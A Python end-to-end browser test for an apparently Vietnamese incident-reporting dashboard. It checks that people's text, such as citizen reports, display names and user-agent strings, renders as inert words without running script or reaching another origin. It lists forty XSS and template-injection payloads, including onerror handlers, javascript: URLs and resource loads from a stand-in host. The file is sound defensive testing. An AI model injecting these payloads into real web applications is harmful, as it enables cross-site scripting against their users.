"""Forty pieces of hostile text, sent by a citizen and as people's names, on every screen of a real browser.

Nothing may run, nothing may be asked of another origin, and the policy must have had nothing to stop: what a person
wrote is shown as the words that it is.
"""

import re

import httpx
import pytest

from tests.e2e.centre import CODE, Centre
from tests.ui.browser import Watch, browser, served, until_ready

OWN = "mua-roi-tren-song-dai"
ELSEWHERE = "http://elsewhere.example"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src='x'/onerror='alert(1)'>",
    f"<img src={ELSEWHERE}/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    f"<embed src={ELSEWHERE}/x.swf>",
    "<a href=javascript:alert(1)>bấm</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
    "[bấm](javascript:alert(1))",
    f"![ảnh]({ELSEWHERE}/pixel.png)",
    f"[ảnh]: {ELSEWHERE}/x 'y'",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f'<div style="background:url({ELSEWHERE}/x)">x</div>',
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button>gửi</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '";alert(1);//',
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}{{ self.__init__ }}",
    ":material/home: :red[đỏ] $\\href{javascript:alert(1)}{x}$ `x`",
    "\u202e<img src=x onerror=alert(1)>\u0000\ufeff",
]
SCREENS = ("", "incidents", "figures", "citizen", "health")
GUESTS = ("khach-mot", "khach-hai")
BLOCKED = re.compile(r"Content Security Policy|Refused to")


@pytest.fixture
def centre(tmp_path):
    made = Centre(tmp_path)
    made.account("quantri", "admin", OWN, name=PAYLOADS[4])
    made.account("truc", "operator", OWN, name=PAYLOADS[0])
    for guest in GUESTS:
        made.account(guest, "operator", OWN, name=PAYLOADS[1])
    yield made.start()
    made.stop()


def report(centre, number, payload):
    """A citizen's report that holds the payload in every field that takes words."""
    fields = {
        "key": f"payload-{number:04d}-abcdef",
        "category": "flood",
        "urgency": "urgent",
        "description": f"[{number:02d}] {payload}",
        "area_code": CODE,
        "place": payload,
        "name": payload,
        "phone": "0901234567",
    }
    answer = httpx.post(
        f"{centre.url}/modules/citizen/api/reports", data=fields, headers={"Accept": "application/json"}, timeout=30
    )
    assert answer.status_code == 201, answer.text
    return answer.json()


def somebody(centre, number, payload, admin):
    body = {"username": f"x{number:02d}", "role": "operator", "display_name": f"[{number:02d}] {payload}"}
    assert admin.post("/api/v1/accounts", json=body).status_code == 201


def traces(centre, admin):
    """Hostile text in places of its own: the name of a browser, a name that nobody has, an address that is refused."""
    for number, payload in enumerate(PAYLOADS):
        agent = payload.encode("ascii", "ignore").replace(b"\0", b"")
        given = {"username": GUESTS[number % 2], "password": OWN}  # one account may sign in thirty times a minute
        httpx.post(f"{centre.url}/api/v1/session", json=given, headers={"user-agent": agent}, timeout=30)
        if number % 8 == 0:
            operator = httpx.Client(base_url=centre.url)
            operator.post("/api/v1/session", json=given)
            operator.delete(f"/api/v1/accounts/{payload[:40].replace('/', '%2F')}/lock")


SHOWS = """
words => document.body.innerText.includes(words)
  || [...document.querySelectorAll("*")].some(one => one.shadowRoot && one.shadowRoot.textContent.includes(words))
"""


class Look:
    """A page that is watched, and the texts that it showed."""

    def __init__(self, context, origin):
        self.watch = Watch(context, origin)
        self.page = self.watch.page
        self.page.on("console", lambda one: self.watch.errors.append(one.text) if BLOCKED.search(one.text) else None)
        self.seen = ""

    def at(self, path, marker=None):
        self.page.goto(f"{self.watch.origin}{path}")
        if marker:
            self.page.wait_for_function(SHOWS, arg=marker)
        self.page.wait_for_timeout(400)
        self.seen += self.page.evaluate(
            "[document.body.innerText, ...[...document.querySelectorAll('*')].filter(one => one.shadowRoot)"
            ".map(one => one.shadowRoot.textContent)].join(' ')"
        )
        assert self.page.url.startswith(self.watch.origin), self.page.url
        assert self.watch.errors == [], path
        assert self.watch.strays == [], path


@pytest.mark.drill
@pytest.mark.timeout(600)
def test_what_people_write_runs_nowhere(centre):
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 40
    sent = [report(centre, number, payload) for number, payload in enumerate(PAYLOADS)]
    admin = httpx.Client(base_url=centre.url, timeout=30)
    assert admin.post("/api/v1/session", json={"username": "quantri", "password": OWN}).status_code == 200
    for number, payload in enumerate(PAYLOADS):
        somebody(centre, number, payload, admin)
    traces(centre, admin)
    with served(centre.url) as (origin, _), browser() as chromium:
        operator = Look(chromium.new_context(locale="vi-VN"), origin)
        sign_in(operator, "truc", origin)
        for path in SCREENS:
            operator.at(f"/dash/{path}")
        for number, one in enumerate(sent):
            operator.at(f"/dash/incidents?incident={one['incident_id']}", f"[{number:02d}]")
        operator.at("/account")
        for one in sent[::4]:
            operator.at(f"/modules/citizen/track/{one['code']}")
        operator.at("/modules/citizen/published")
        manager = Look(chromium.new_context(locale="vi-VN"), origin)
        sign_in(manager, "quantri", origin)
        manager.at("/dash/accounts", "[39]")
        for number in range(0, 40, 5):
            manager.at(f"/dash/accounts?account=x{number:02d}", f"[{number:02d}]")
        manager.page.click(".st-key-account-sessions summary")
        manager.page.wait_for_timeout(1500)
        manager.at("/dash/records", "Đăng nhập")
        manager.at("/dash/records?act=account.add", "Thêm tài khoản")
        manager.at("/dash/records?act=access.refused", "Bị từ chối truy cập")
        manager.at("/account")
        manager.at("/login?next=%2F%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E")
        assert "<script>alert(1)</script>" in operator.seen  # as words
        assert "<img src=x onerror=alert(1)>" in manager.seen


def sign_in(look, username, origin):
    look.watch.log_in(username, OWN)
    look.page.wait_for_url("**/dash/**")
    cookie = "; ".join(f"{one['name']}={one['value']}" for one in look.page.context.cookies())
    until_ready(origin, cookie)
